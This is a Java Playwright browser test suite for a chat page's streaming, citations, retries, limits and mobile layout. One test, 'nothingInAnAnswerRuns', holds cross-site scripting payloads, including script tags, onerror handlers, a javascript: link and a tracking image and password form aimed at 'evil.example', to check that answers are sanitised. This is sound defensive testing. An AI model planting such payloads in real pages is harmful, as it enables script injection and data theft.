package dev.parley.chat.page;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.microsoft.playwright.Browser.NewContextOptions;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.AriaRole;
import com.microsoft.playwright.options.ColorScheme;
import com.microsoft.playwright.options.ReducedMotion;
import dev.parley.chat.ChatTest;
import dev.parley.chat.Inference;
import dev.parley.chat.Visitor;
import dev.parley.testing.Answer;
import dev.parley.testing.SettableClock;
import io.restassured.RestAssured;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import jakarta.inject.Inject;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CountDownLatch;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** The chat page in a real Chromium, against the running service. */
@ChatTest
class ChatPageBrowserTest {

  private static final Duration SOON = Duration.ofSeconds(10);

  private static Chromium chromium;

  @Inject SettableClock clock;

  private final List<String> foreignRequests = new ArrayList<>();
  private final List<String> pageErrors = new ArrayList<>();
  private BrowserContext context;

  @BeforeAll
  static void startBrowser() {
    chromium = Chromium.startOrSkip();
  }

  @AfterAll
  static void stopBrowser() {
    if (chromium != null) {
      chromium.close();
    }
  }

  @BeforeEach
  void forget() {
    Inference.upstream().reset();
  }

  @AfterEach
  void leave() {
    if (context != null) {
      context.close();
    }
    clock.reset();
    assertThat(foreignRequests).as("requests to other hosts").isEmpty();
    assertThat(pageErrors).as("errors of the page's scripts").isEmpty();
  }

  private Page open(Visitor visitor) {
    return open(visitor, new NewContextOptions().setViewportSize(1000, 760));
  }

  private Page open(Visitor visitor, NewContextOptions options) {
    context = chromium.browser().newContext(options.setReducedMotion(ReducedMotion.REDUCE));
    Page page = context.newPage();
    String host = "http://localhost:" + RestAssured.port;
    page.onRequest(
        request -> {
          if (!request.url().startsWith(host)) {
            foreignRequests.add(request.url());
          }
        });
    page.onPageError(pageErrors::add);
    page.navigate(host + "/chat/" + visitor.key());
    return page;
  }

  private static Locator input(Page page) {
    return page.getByRole(AriaRole.TEXTBOX);
  }

  private static Locator button(Page page, String name) {
    return page.getByRole(
        AriaRole.BUTTON, new Page.GetByRoleOptions().setName(name).setExact(true));
  }

  /** Words in a message, not in what is read out to a screen reader. */
  private static Locator said(Page page, String words) {
    return page.locator("chat-message").getByText(words);
  }

  private static void ask(Page page, String words) {
    input(page).fill(words);
    page.keyboard().press("Enter");
  }

  @Test
  void anAnswerStreamsInAndItsSourcesOpen() {
    Visitor visitor = Visitor.arrive();
    CountDownLatch last = new CountDownLatch(1);
    Inference.upstream()
        .script(
            Inference.cited(
                    "Water boils at **100 °C** at sea level.", "It boils ", "at *100 °C* [1].")
                .holdingLastUntil(last));
    Page page = open(visitor);
    ask(page, "When does water boil?");

    assertThat(said(page, "It boils")).isVisible();
    assertThat(button(page, "Stop answering")).isVisible();
    assertThat(page.getByRole(AriaRole.STATUS)).hasText("The assistant is answering.");
    last.countDown();
    assertThat(page.locator("markdown-text em")).hasText("100 °C");
    assertThat(page.getByRole(AriaRole.STATUS)).hasText("It boils at 100 °C [1].");
    assertThat(button(page, "Send")).isVisible();

    button(page, "Source 1: guide.md").click();
    Locator dialog = page.getByRole(AriaRole.DIALOG);
    assertThat(dialog).containsText("guide.md");
    assertThat(dialog.locator("strong")).hasText("100 °C");
    assertThat(dialog).containsText("docs/guide.md");
    page.keyboard().press("Escape");
    assertThat(dialog).isHidden();
    assertThat(button(page, "Source 1: guide.md")).isFocused();

    page.reload();
    assertThat(said(page, "When does water boil?")).isVisible();
    assertThat(page.locator("markdown-text em")).hasText("100 °C");
    assertThat(button(page, "Source 1: guide.md")).isVisible();
  }

  @Test
  void aPassageThatIsCitedTwiceIsOneSource() {
    Visitor visitor = Visitor.arrive();
    Inference.upstream().script(Inference.cited("Word for word.", "So it is [1]. Always [1]."));
    Page page = open(visitor);
    ask(page, "Is it?");
    assertThat(page.locator(".cite")).hasCount(2);
    assertThat(page.locator(".source")).hasCount(1);
    page.locator(".source").click();
    Locator dialog = page.getByRole(AriaRole.DIALOG);
    assertThat(dialog).containsText("Word for word.");
    assertThat(dialog).containsText("docs/guide.md");
    assertThat(dialog.locator("a")).hasCount(0);
  }

  @Test
  void theClientsWordsAndColoursShow() {
    JsonObject parameters =
        new JsonObject()
            .put("pageTitle", "Acme help")
            .put("helloLabel", "Ask Acme")
            .put("helloSubLabel", "We know rockets.")
            .put("textAreaPlaceholder", "Your question")
            .put("primaryColor", "#ffee00")
            .put(
                "suggestionButtons",
                new JsonArray()
                    .add(new JsonObject().put("label", "Prices").put("prompt", "What is it?")));
    Visitor visitor =
        Visitor.arrive(new JsonObject().put("clientParameters", parameters), new JsonObject());
    Page page = open(visitor);
    assertThat(page).hasTitle("Acme help");
    assertThat(page.getByText("Ask Acme")).isVisible();
    assertThat(page.getByPlaceholder("Your question")).isFocused();
    assertThat(page.locator("html")).hasCSS("--accent", "rgb(255 238 0)");
    assertThat(page.locator("html")).hasCSS("--on-accent", "rgb(0 0 0)");
    button(page, "Prices").click();
    assertThat(said(page, "What is it?")).isVisible();
    assertThat(said(page, "Hello from the upstream.")).isVisible();
  }

  @Test
  void nothingInAnAnswerRuns() {
    Visitor visitor = Visitor.arrive();
    Inference.upstream()
        .script(
            Answer.text(
                """
                <script>window.hacked = 1</script>
                <img src="https://evil.example/x.png" onerror="window.hacked = 2">
                ![tracking](https://evil.example/pixel.png?said=all)
                [link](javascript:window.hacked=3)
                <a href="#" onclick="window.hacked=4">press</a>
                <iframe src="https://evil.example"></iframe>
                <form action="https://evil.example"><input name="password"></form>
                <style>body { display: none }</style>
                <svg><script>window.hacked=5</script></svg>
                <chat-page></chat-page> The end.
                """));
    Page page = open(visitor);
    ask(page, "<img src=x onerror='window.hacked=6'>");
    assertThat(said(page, "The end.")).isVisible();
    assertThat(button(page, "Send")).isVisible();
    for (Locator link : page.locator("markdown-text a").all()) {
      assertThat(link.getAttribute("href")).doesNotContain("javascript:");
    }
    assertThat(
            page.locator("markdown-text").locator("script, img, iframe, form, input, style, svg"))
        .hasCount(0);
    assertThat(page.evaluate("window.hacked")).isNull();
    page.reload();
    assertThat(said(page, "The end.")).isVisible();
    assertThat(page.evaluate("window.hacked")).isNull();
  }

  @Test
  void stopKeepsWhatWasSaidAndOffersAnotherTry() {
    Visitor visitor = Visitor.arrive();
    Inference.upstream().script(Answer.text("A long story").thenStall());
    Page page = open(visitor);
    ask(page, "Tell me.");
    assertThat(said(page, "A long story")).isVisible();
    button(page, "Stop answering").click();
    assertThat(page.getByText("This answer was stopped.")).isVisible();
    await().atMost(SOON).until(() -> Inference.upstream().cancelled() == 1);
    Inference.upstream().script(Answer.text("A short story."));
    button(page, "Try again").click();
    assertThat(said(page, "A short story.")).isVisible();
    assertThat(said(page, "A long story")).hasCount(0);
  }

  @Test
  void afterAFailureTheSameQuestionIsAnsweredOnce() {
    Visitor visitor = Visitor.arrive();
    Inference.upstream().script(Inference.refusal(503, "The model is loading."));
    Page page = open(visitor);
    ask(page, "Anybody there?");
    Locator alert = page.getByRole(AriaRole.ALERT);
    assertThat(alert).containsText("The model is loading.");
    Inference.upstream().script(Answer.text("Here I am."));
    button(page, "Try again").click();
    assertThat(said(page, "Here I am.")).isVisible();
    assertThat(alert).hasCount(0);
    assertThat(said(page, "Anybody there?")).hasCount(1);
    assertThat(Inference.upstream().requests().getLast().json().getJsonArray("messages"))
        .hasSize(1);
  }

  @Test
  void aQuestionThatNeverArrivedIsSentAgain() {
    Visitor visitor = Visitor.arrive();
    Page page = open(visitor);
    assertThat(input(page)).isVisible();
    context.setOffline(true);
    ask(page, "Do you hear me?");
    assertThat(page.getByRole(AriaRole.ALERT)).containsText("Connection lost");
    context.setOffline(false);
    Inference.upstream().script(Answer.text("Loud and clear."));
    button(page, "Try again").click();
    assertThat(said(page, "Loud and clear.")).isVisible();
    assertThat(said(page, "Do you hear me?")).hasCount(1);
  }

  @Test
  void aReloadInTheMiddleOfAnAnswerShowsWhatWasSaid() {
    Visitor visitor = Visitor.arrive();
    Inference.upstream().script(Answer.text("Half of it").thenStall());
    Page page = open(visitor);
    ask(page, "Tell me.");
    assertThat(said(page, "Half of it")).isVisible();
    page.reload();
    assertThat(said(page, "Half of it")).isVisible();
    // Nobody follows it here, so it is stopped after a while.
    assertThat(page.getByText("This answer was stopped.")).isVisible();
    assertThat(button(page, "Try again")).isVisible();
  }

  @Test
  void aLimitSaysWhenToComeBack() {
    JsonObject limits =
        new JsonObject().put("limitingParameters", new JsonObject().put("messagesPerHour", 1));
    Page page = open(Visitor.arrive(limits, new JsonObject()));
    ask(page, "One");
    assertThat(said(page, "Hello from the upstream.")).isVisible();
    assertThat(button(page, "Send")).isVisible();
    ask(page, "Two");
    assertThat(page.getByRole(AriaRole.ALERT)).containsText("You can write again in 60 minutes.");
  }

  @Test
  void anEndedSessionIsToldInWords() {
    Visitor visitor = Visitor.arrive();
    clock.advance(Duration.ofHours(25));
    Page page = open(visitor);
    assertThat(page.getByRole(AriaRole.HEADING)).hasText("This chat has ended");
  }

  @Test
  void itFitsAPhoneInTheDark() {
    Visitor visitor = Visitor.arrive();
    Inference.upstream()
        .script(
            Answer.text(
                "| a | b |\n|---|---|\n| "
                    + "wide".repeat(40)
                    + " | 2 |\n\n"
                    + "Line after line.\n\n".repeat(40)
                    + "The last line."));
    Page page =
        open(
            visitor,
            new NewContextOptions()
                .setViewportSize(360, 640)
                .setIsMobile(true)
                .setHasTouch(true)
                .setColorScheme(ColorScheme.DARK));
    ask(page, "Write a lot.");
    Locator last = said(page, "The last line.");
    assertThat(last).isInViewport();
    assertThat(input(page)).isInViewport();
    assertThat(page.evaluate("document.documentElement.scrollWidth <= innerWidth")).isEqualTo(true);
    page.locator("main").evaluate("main => main.scrollTo(0, 0)");
    button(page, "Latest message").click();
    assertThat(last).isInViewport();
  }
}
